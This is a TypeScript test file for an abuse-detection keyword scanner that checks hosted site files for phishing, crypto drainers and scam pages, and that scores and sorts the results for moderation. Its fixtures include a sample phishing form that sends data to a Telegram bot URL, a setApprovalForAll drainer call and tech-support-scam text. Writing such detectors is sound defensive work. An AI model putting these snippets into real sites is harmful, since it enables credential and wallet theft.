import { describe, expect, it } from 'vitest';
import { HITS_COUNTED_PER_RULE, RULESET_VERSION, SCAN_RULES } from '../../lib/abuse/rules.ts';
import { orderKey } from '../../lib/abuse/scan-row.ts';
import { EXAMPLES_PER_RULE, isScannedText, newTally, scanText, summarize } from '../../lib/abuse/scan-text.ts';

/** The pure part of the keyword scan: rules, matching, examples, score, priority and the listing's order key. */

const scan = (files: Record<string, string>) => {
  const tally = newTally();
  for (const [path, text] of Object.entries(files)) scanText(tally, path, text);
  return summarize(tally);
};

describe('rule set', () => {
  it('is versioned, ids are unique, every pattern is global (compiled once for matchAll)', () => {
    expect(RULESET_VERSION).toMatch(/^\d{4}-\d\d-\d\d\.\d+$/);
    expect(new Set(SCAN_RULES.map((r) => r.id)).size).toBe(SCAN_RULES.length);
    for (const rule of SCAN_RULES) {
      expect(rule.weight).toBeGreaterThan(0);
      for (const pattern of rule.patterns) expect(pattern.flags).toContain('g');
    }
  });

  it('finds a Telegram-exfiltration phishing kit, a drainer and a support scam; a plain page matches nothing', () => {
    const result = scan({
      'login.html': `<form id="f"><input type="password" name="pw"></form><script>fetch("https://api.telegram.org/bot123456789:${'A'.repeat(35)}/sendMessage")</script>`,
      'js/app.js': 'const c = new ethers.Contract(a, abi, s); await c.setApprovalForAll(op, true);',
      'alert.html': '<h1>Your computer has been infected</h1><p>Call Microsoft support now</p>',
      'index.html': '<h1>Welcome to my bakery</h1><p>Fresh bread every morning.</p>',
    });
    expect(result.matches.map((m) => m.rule_id)).toEqual([
      'phishing.credential-exfiltration',
      'phishing.password-field',
      'malware.crypto-drainer',
      'fraud.tech-support-scam',
    ]);
    expect(result.matches[0]).toEqual({
      rule_id: 'phishing.credential-exfiltration',
      category: 'phishing',
      hits: 1,
      examples: [{ path: 'login.html', snippet: expect.stringContaining('api.telegram.org/bot123456789:') }],
    });
    expect(result.matches[3]!.hits).toBe(2);
    expect(result.hits).toBe(5);
    expect(result.score).toBe(40 + 5 + 50 + 30 * 2);
    expect(result.priority).toBe('critical');
    expect(scan({ 'index.html': '<p>Nothing to see</p>' })).toEqual({ matches: [], hits: 0, score: 0, priority: 'none' });
  });

  it('counts every hit but at most 5 toward the score, and keeps 3 examples with their paths', () => {
    const page = Array.from({ length: 8 }, (_, i) => `<input type="password" name="p${i}">`).join('\n');
    const result = scan({ 'a.html': page, 'b.html': '<input type=password>' });
    expect(result.matches).toHaveLength(1);
    expect(result.matches[0]!.hits).toBe(9);
    expect(result.score).toBe(5 * HITS_COUNTED_PER_RULE);
    expect(result.priority).toBe('high');
    expect(result.matches[0]!.examples).toHaveLength(EXAMPLES_PER_RULE);
    expect(result.matches[0]!.examples.map((e) => e.path)).toEqual(['a.html', 'a.html', 'a.html']);
  });

  it('snippets are the match with whitespace collapsed and bounded context', () => {
    const text = `${'x'.repeat(500)}\n\n  Sign in to   your PayPal\n${'y'.repeat(500)}`;
    const [match] = scan({ 'p.html': text }).matches;
    const snippet = match!.examples[0]!.snippet;
    expect(snippet).toContain('Sign in to your PayPal');
    expect(snippet.length).toBeLessThanOrEqual(200);
    expect(snippet).not.toMatch(/\s{2,}/);
  });

  it('reads text files by content type or extension, never images or archives', () => {
    expect(isScannedText('index.html', 'text/html; charset=utf-8')).toBe(true);
    expect(isScannedText('a/b.js', 'application/javascript')).toBe(true);
    expect(isScannedText('logo.svg', 'image/svg+xml')).toBe(true);
    expect(isScannedText('data.unknown', 'text/plain')).toBe(true);
    expect(isScannedText('x.mjs', undefined)).toBe(true);
    expect(isScannedText('photo.png', 'image/png')).toBe(false);
    expect(isScannedText('site.zip', 'application/zip')).toBe(false);
  });
});

describe('listing order key', () => {
  const row = (over: Partial<Parameters<typeof orderKey>[0]>) => ({
    report_count: 0,
    priority: 'low' as const,
    score: 10,
    scanned_at: '2026-11-23T09:00:00.000Z',
    id: '00000000-0000-4000-8000-000000000000',
    ...over,
  });

  it('sorts reported first, then priority, then score (highest first), then newest', () => {
    const rows = {
      reportedClean: row({ report_count: 1, priority: 'none', score: 0 }),
      critical: row({ priority: 'critical', score: 50 }),
      highBig: row({ priority: 'high', score: 1200 }),
      highSmall: row({ priority: 'high', score: 15 }),
      highSmallNewer: row({ priority: 'high', score: 15, scanned_at: '2026-11-23T10:00:00.000Z' }),
      clean: row({ priority: 'none', score: 0 }),
    };
    const sorted = Object.entries(rows)
      .map(([name, r]) => [name, orderKey(r)] as const)
      .sort((a, b) => (a[1] < b[1] ? -1 : 1))
      .map(([name]) => name);
    expect(sorted).toEqual(['reportedClean', 'critical', 'highBig', 'highSmallNewer', 'highSmall', 'clean']);
  });
});
